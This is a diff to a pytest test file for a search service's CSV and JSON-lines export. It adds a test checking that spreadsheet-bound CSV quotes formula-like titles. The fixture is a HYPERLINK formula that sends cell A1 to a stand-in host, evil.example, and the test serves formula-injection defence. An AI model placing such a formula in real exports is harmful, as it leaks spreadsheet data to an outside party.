@@ -1,6 +1,7 @@
 """An export's bytes: it streams, its CSV opens cleanly, its manifest hashes what was sent."""
 
 import csv
+import datetime as dt
 import hashlib
 import io
 import json
@@ -14,7 +15,8 @@ from search.export.spec import ExportSpec
 from search.export.stream import Export
 from search.service import search
 from search.types import SearchRequest
-from tests.search.export.conftest import AWKWARD_TITLES
+from tests.factories import make_article
+from tests.search.export.conftest import AWKWARD_TITLES, index_all
 
 pytestmark = pytest.mark.django_db
 
@@ -103,3 +105,17 @@ def test_a_json_lines_export_ends_with_its_manifest_hashing_the_lines_before(har
     path = tmp_path / "x.jsonl"
     path.write_bytes(data)
     assert file_digest(path).sha256 == manifest["sha256"]
+
+
+def test_the_spreadsheet_csv_quotes_cells_a_spreadsheet_would_run_and_the_plain_one_not(harvest):
+    formula = '=HYPERLINK("http://evil.example/"&A1) harvest'
+    make_article(title=formula, body="The harvest came in at last.", published=dt.date(2009, 1, 1))
+    make_article(title="-harvest+", body="The harvest came in once more.")
+    index_all()
+
+    def titles(bom: bool) -> set[str]:
+        data = body(Export(ExportSpec(HARVEST, "csv", bom=bom))).decode("utf-8-sig")
+        return {row[3] for row in csv.reader(io.StringIO(data, newline=""))}
+
+    assert {f"'{formula}", "'-harvest+"} <= titles(True)  # bom=1: for spreadsheets
+    assert {formula, "-harvest+"} <= titles(False)  # the data as stored, for programs
